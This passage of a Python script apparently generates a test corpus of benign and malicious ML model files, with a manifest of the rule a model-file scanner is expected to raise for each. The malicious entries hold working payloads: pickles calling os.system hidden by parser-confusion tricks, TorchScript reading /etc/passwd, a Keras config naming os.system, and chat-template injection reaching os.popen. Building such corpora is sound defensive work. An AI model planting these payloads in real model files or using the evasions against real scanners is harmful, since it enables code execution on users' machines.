            pickle.dumps({"a": [1, 2.5, "x", None, (True, False)], "b": b"raw"}, protocol=0),
            "protocol 0",
            "",
        )
    )
    entries.append(
        (
            "plain_python_p1.pkl",
            pickle.dumps({"a": {1, 2}, "b": frozenset([3]), "c": 2**80}, protocol=1),
            "protocol 1",
            "",
        )
    )
    entries.append(
        ("config.json", json.dumps({"architectures": ["GPT2LMHeadModel"], "n_layer": 2}).encode(), "config", "")
    )
    entries.append(
        (
            "keras_dense.keras",
            zip_bytes(
                [
                    ("config.json", json.dumps(_keras_config(lambda_layer=False)).encode()),
                    ("metadata.json", b'{"keras_version": "3.6.0"}'),
                ]
            ),
            "Keras without Lambda",
            "",
        )
    )
    entries.append(
        ("onnx_external_local.onnx", onnx_model("weights/weight.bin"), "ONNX external data in the folder", "")
    )
    entries.append(
        (
            "model.gguf",
            gguf_file(
                {
                    "general.architecture": "llama",
                    "tokenizer.chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}",
                }
            ),
            "GGUF",
            "",
        )
    )
    entries.append(("README.md", b"# Model card\n\nA small test model.\n", "text", ""))
    return entries


SKLEARN_PROGRAM = r"""
import io, json, pickle, sys, joblib, numpy as np
from sklearn.cluster import KMeans
from sklearn.decomposition import PCA
from sklearn.ensemble import RandomForestClassifier, GradientBoostingRegressor
from sklearn.linear_model import LinearRegression, LogisticRegression, Ridge
from sklearn.naive_bayes import GaussianNB
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler, OneHotEncoder
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier
rng = np.random.RandomState(0)
X = rng.rand(30, 4); y = (X[:, 0] > 0.5).astype(int)
models = {
    "linear_regression": LinearRegression().fit(X, y),
    "logistic_regression": LogisticRegression().fit(X, y),
    "ridge": Ridge().fit(X, y),
    "random_forest": RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y),
    "gradient_boosting": GradientBoostingRegressor(n_estimators=3, random_state=0).fit(X, y),
    "decision_tree": DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y),
    "kmeans": KMeans(n_clusters=2, n_init=1, random_state=0).fit(X),
    "pca": PCA(n_components=2).fit(X),
    "svc": SVC().fit(X, y),
    "gaussian_nb": GaussianNB().fit(X, y),
    "knn": KNeighborsClassifier(n_neighbors=3).fit(X, y),
    "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y),
    "onehot": OneHotEncoder().fit([["a"], ["b"]]),
}
out = {}
for name, model in models.items():
    out[f"sklearn_{name}.pkl"] = pickle.dumps(model, protocol=4)
for name in ("random_forest", "pipeline", "pca", "logistic_regression"):
    buffer = io.BytesIO(); joblib.dump(models[name], buffer); out[f"sklearn_{name}.joblib"] = buffer.getvalue()
buffer = io.BytesIO(); joblib.dump(models["ridge"], buffer, compress=3); out["sklearn_ridge_compressed.joblib"] = buffer.getvalue()
buffer = io.BytesIO(); joblib.dump({"arrays": [np.arange(5), np.array(["a", None], dtype=object)]}, buffer); out["joblib_object_array.joblib"] = buffer.getvalue()
json.dump({k: v.hex() for k, v in out.items()}, sys.stdout)
"""


def benign_sklearn() -> list[Entry]:
    python = CORPUS_VENV / "bin" / "python"
    if not python.exists():
        subprocess.run([sys.executable, "-m", "venv", str(CORPUS_VENV)], check=True)
        subprocess.run([str(python), "-m", "pip", "install", "-q", "scikit-learn", "joblib"], check=True)
    result = subprocess.run([str(python), "-c", SKLEARN_PROGRAM], check=True, capture_output=True, text=True)
    files: dict[str, str] = json.loads(result.stdout)
    return [(name, bytes.fromhex(data), "scikit-learn / joblib", "") for name, data in sorted(files.items())]


# --- round two (issue 20): classes the first corpus did not have --------------------------------------

_RCE_P0 = glob("os", "system") + b"(" + text_str("id") + b"tR."


def _hdf5_with(config: dict[str, Any], *, escape_lambda: bool = False) -> bytes:
    text = json.dumps(config)
    if escape_lambda:
        text = text.replace('"Lambda"', '"\\u004cambda"')
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 504 + text.encode() + b"\x00" * 256


def _torchscript(code: str) -> bytes:
    return zip_bytes(
        [
            ("model/data.pkl", stop(b"}", 2)),
            ("model/constants.pkl", stop(b")", 2)),
            ("model/code/__torch__.py", code.encode()),
            ("model/version", b"8\n"),
        ]
    )


_TORCHSCRIPT_FORWARD = (
    "class Model(Module):\n  __parameters__ = []\n"
    "  def forward(self: __torch__.Model, x: Tensor) -> Tensor:\n{body}    return torch.relu(x)\n"
)
_CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def _joblib_hiding_opcodes() -> bytes:
    """A joblib NumpyArrayWrapper whose 'array bytes' are opcodes for plain pickle.load."""
    hidden = b"0" + glob("os", "system") + b"(" + text_str("id") + b"tR0N."
    wrapper = (
        proto(4) + sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + ustr("shape")
        + b"K" + bytes([len(hidden)]) + b"\x85" + ustr("dtype") + sglob("numpy", "dtype") + ustr("u1")
        + b"\x89\x88\x87R" + ustr("order") + ustr("C") + b"ub"
    )  # fmt: skip
    return wrapper + hidden + b"."


def _tar_with_pickle_header() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo(_RCE_P0.decode("latin-1"))
        info.size, info.mtime = 2, 0
        archive.addfile(info, io.BytesIO(b"ok"))
    return buffer.getvalue()


def malicious_round_two() -> list[Entry]:
    lambda_model = _keras_config(lambda_layer=True)
    foreign = _keras_config(lambda_layer=False)
    foreign["config"]["layers"][1]["config"]["activation"] = {
        "module": "os",
        "class_name": "function",
        "config": "system",
    }
    keras_archive = zip_bytes(
        [("metadata.json", b'{"keras_version": "3.8.0"}'), ("config.json", json.dumps(lambda_model).encode())]
    )
    frame_body = b"cjunk"
    return [
        (
            "p0_int_octal_prefix.pkl",
            b"I010\n0" + _RCE_P0,
            "INT parsed by strtol(s, 0): 010 is 8",
            "the old analyser stopped at int('010', 0) and called it data",
        ),
        ("p0_int_nul_tail_prefix.pkl", b"I5\x00junk\n0" + _RCE_P0, "INT argument with a NUL: strtol stops there", ""),
        ("p0_float_nul_tail_prefix.pkl", b"F1.5\x00junk\n0" + _RCE_P0, "FLOAT argument with a NUL", ""),
        (
            "p0_memo_leading_zero_prefix.pkl",
            b"Np010\n0g10\n0" + _RCE_P0,
            "PUT/GET index read in base 10",
            "010 is 10 for the loader",
        ),
        (
            "p0_long_line_prefix.pkl",
            b"S'" + b"a" * 70_000 + b"'\n0" + _RCE_P0,
            "argument line over the old 64 KiB limit",
            "",
        ),
        (
            "append_on_bytearray_prefix.pkl",
            framed(b"\x96\x00\x00\x00\x00\x00\x00\x00\x00K\x05a0" + _RCE_P0),
            "APPEND on a bytearray (it has extend)",
            "",
        ),
        ("setitem_on_list_prefix.pkl", b"]K\x01aK\x00K\x05s0" + _RCE_P0, "SETITEM on a list", ""),
        ("build_none_on_list_prefix.pkl", b"]Nb0" + _RCE_P0, "BUILD with None state on a list", ""),
        (
            "frame_split_global.pkl",
            proto(4)
            + b"\x95"
            + struct.pack("<Q", len(frame_body))
            + frame_body
            + b"os\nsystem\n("
            + text_str("id")
            + b"tR.",
            "GLOBAL line split by its FRAME: pickle.load(file) reads os.system",
            "loads() reads a module 'junkos'",
        ),
        (
            "joblib_array_hides_opcodes.joblib",
            _joblib_hiding_opcodes(),
            "joblib array bytes are opcodes for pickle.load",
            "",
        ),
        (
            "tar_header_is_a_pickle.tar",
            _tar_with_pickle_header(),
            "tar/pickle polyglot: the first member's name is a pickle",
            "",
        ),
        (
            "sklearn_imported_path.pkl",
            stop(call(glob("sklearn.datasets._base", "Path"), ustr4("/etc/passwd")), 2),
            "CamelCase name in sklearn.* that is pathlib.Path",
            "",
        ),
        (
            "torchscript_from_file.pt",
            _torchscript(_TORCHSCRIPT_FORWARD.format(body='    _0 = torch.from_file("/etc/passwd", None, 4)\n')),
            "TorchScript code reading a file",
            "",
        ),
        (
            "torchscript_save.pt",
            _torchscript(_TORCHSCRIPT_FORWARD.format(body='    torch.save(x, "/tmp/stolen.pt")\n')),
            "TorchScript code writing a file",
            "",
        ),
        (
            "keras_h5_escaped_lambda.h5",
            _hdf5_with(lambda_model, escape_lambda=True),
            "Keras HDF5 config with an escaped Lambda class name",
            "",
        ),
        ("keras_h5_foreign_function.h5", _hdf5_with(foreign), "Keras config naming os.system as an activation", ""),
        (
            "prefixed_lambda.keras",
            b"#!prefix bytes before the archive\n" * 8 + keras_archive,
            ".keras zip behind a prefix (found by its end record)",
            "",
        ),
        (
            "gguf_template_attr_concat.gguf",
            gguf_file(
                {"general.architecture": "llama", "tokenizer.chat_template": '{{ messages|attr("__cl" ~ "ass__") }}'}
            ),
            "chat template: attr filter over a name built with ~",
            "",
        ),
        (
            "gguf_template_escaped_dunder.gguf",
            gguf_file(
                {
                    "general.architecture": "llama",
                    "tokenizer.chat_template": '{{ messages["\\x5f\\x5fclass\\x5f\\x5f"] }}',
                }
            ),
            "chat template: escaped dunder string",
            "",
        ),
        (
            "tokenizer_config_ssti.json",
            json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}).encode(),
            "tokenizer_config.json chat template injection",
            "",
        ),
    ]


def benign_round_two() -> list[Entry]:
    entries: list[Entry] = [
        (
            "torchscript_compute_only.pt",
            _torchscript(_TORCHSCRIPT_FORWARD.format(body="    _0 = torch.add(x, 1)\n")),
            "TorchScript code that only computes",
            "",
        ),
        (
            "keras_h5_dense.h5",
            _hdf5_with(_keras_config(lambda_layer=False)),
            "Keras HDF5 config, Dense layers only",
            "",
        ),
        (
            "gguf_chatml_template.gguf",
            gguf_file({"general.architecture": "llama", "tokenizer.chat_template": _CHATML}),
            "GGUF with an ordinary ChatML template",
            "",
        ),
        (
            "tokenizer_config_chatml.json",
            json.dumps({"chat_template": _CHATML, "eos_token": "<|im_end|>"}).encode(),
            "tokenizer_config.json, ordinary template",
            "",
        ),
    ]
    try:
        import numpy as np

        joblib = importlib.import_module("joblib")
        ensemble = importlib.import_module("sklearn.ensemble")
        preprocessing = importlib.import_module("sklearn.preprocessing")
    except ImportError:
        print("scikit-learn is not installed here: the round-two sklearn files are not rebuilt", file=sys.stderr)
        return entries
    rng = np.random.default_rng(0)
    features = rng.random((40, 3))
    labels = (features[:, 0] > 0.5).astype(int)
    boosted = ensemble.HistGradientBoostingClassifier(max_iter=3, random_state=0).fit(features, labels)
    log1p = preprocessing.FunctionTransformer(np.log1p).fit(features)
    buffer = io.BytesIO()
    joblib.dump(boosted, buffer)
    entries += [
        (
            "sklearn_hist_gradient_boosting.pkl",
            pickle.dumps(boosted, protocol=4),
            "scikit-learn default estimator",
            "_BinMapper: refused by the CamelCase pattern",
        ),
        ("sklearn_hist_gradient_boosting.joblib", buffer.getvalue(), "scikit-learn / joblib", ""),
        (
            "sklearn_function_transformer_log1p.pkl",
            pickle.dumps(log1p, protocol=4),
            "numpy ufunc pickled as a global",
            "numpy.log1p",
        ),
    ]
    return entries


#: The finding each malicious file must raise; files not listed must raise ``pickle.global-denied``.
EXPECTED_RULE = {
    "frame_split_global.pkl": "pickle.unanalysable",
    "torchscript_from_file.pt": "torchscript.code-io",
    "torchscript_save.pt": "torchscript.code-io",
    "keras_h5_escaped_lambda.h5": "keras.lambda-layer",
    "keras_h5_foreign_function.h5": "keras.foreign-function",
    "prefixed_lambda.keras": "keras.lambda-layer",
    "gguf_template_attr_concat.gguf": "gguf.template-code",
    "gguf_template_escaped_dunder.gguf": "gguf.template-code",
    "tokenizer_config_ssti.json": "gguf.template-code",
    "stack_global_type_confusion.pkl": "pickle.dynamic-global",
    "build_on_allowed_global.pkl": "pickle.global-mutation",
    "build_state_setattr.pkl": "pickle.global-mutation",
    "sys_modules_setitem.pkl": "pickle.global-mutation",
    "ext1_registry.pkl": "pickle.extension",
    "invalid_opcode_after_call.pkl": "pickle.invalid-opcode",
    "truncated_after_call.pkl": "pickle.truncated",
    "garbage_tail.pkl": "pickle.trailing-data",
    "benign_with_trailing_pickle.pkl": "pickle.trailing-data",
    "polyglot_pickle_zip.bin": "pickle.trailing-data",
    "sevenzip_wrapped.7z": "archive.unsupported",
    "zip_path_traversal.zip": "archive.path-traversal",
    "tar_path_traversal.tar": "archive.path-traversal",
    "tar_symlink_escape.tar": "archive.link-escape",
    "zip_bomb.zip": "archive.bomb",
    "gzip_bomb.bin.gz": "archive.bomb",
    "zip_crc_mismatch.pt": "archive.crc-mismatch",
    "zip_local_name_mismatch.pt": "pickle.global-denied",
    "zip_flag_bits.pt": "pickle.global-denied",
    "pytorch_zip_duplicate_member.pt": "archive.duplicate-member",
    "keras_lambda.keras": "keras.lambda-layer",
    "onnx_external_traversal.onnx": "onnx.external-data-escape",
    "onnx_external_absolute.onnx": "onnx.external-data-escape",
    "gguf_template_ssti.gguf": "gguf.template-code",
    "safetensors_overlap.safetensors": "safetensors.invalid-header",
    "safetensors_huge_header.safetensors": "safetensors.invalid-header",
}


def write(entries: list[Entry], label: str, manifest: list[dict[str, str]]) -> None:
    folder = OUT / label
    folder.mkdir(parents=True, exist_ok=True)
    for name, data, attack, description in entries:
        (folder / name).write_bytes(data)
        record = {"file": f"{label}/{name}", "label": label, "class": attack, "description": description}
        if label == "malicious":
            record["expect"] = EXPECTED_RULE.get(name, "pickle.global-denied")
        manifest.append(record)


def _round_two_manifest() -> list[dict[str, str]]:
    """Write the round-two files; their manifest entries carry ``"round": "2"`` (issue 20)."""
    added: list[dict[str, str]] = []
    write(malicious_round_two(), "malicious", added)
    write(benign_round_two(), "benign", added)
    for entry in added:
        entry["round"] = "2"
    return added


def round_two() -> None:
    """Add (or rebuild) only the round-two files, leaving the first corpus's bytes as they are."""
    manifest: list[dict[str, str]] = json.loads((OUT / "manifest.json").read_text())
    added = _round_two_manifest()
    names = {entry["file"] for entry in added}
    manifest = [entry for entry in manifest if entry["file"] not in names] + added
    (OUT / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    print(f"{len(added)} round-two files written; {len(manifest)} in the manifest")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--round-two", action="store_true", help="only (re)build the issue 20 files")
    args = parser.parse_args()
    if args.round_two:
        round_two()
        return
    for label in ("malicious", "benign"):
        folder = OUT / label
        if folder.exists():
            for old in folder.iterdir():
                os.unlink(old)
    manifest: list[dict[str, str]] = []
    write(malicious(), "malicious", manifest)
    write(benign_torch() + benign_sklearn(), "benign", manifest)
    manifest += _round_two_manifest()
    (OUT / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    sizes = sum(p.stat().st_size for p in OUT.rglob("*") if p.is_file())
    counts = {label: sum(1 for m in manifest if m["label"] == label) for label in ("malicious", "benign")}
    print(f"{counts} files, {sizes / 1e6:.2f} MB in {OUT}")


if __name__ == "__main__":
    main()
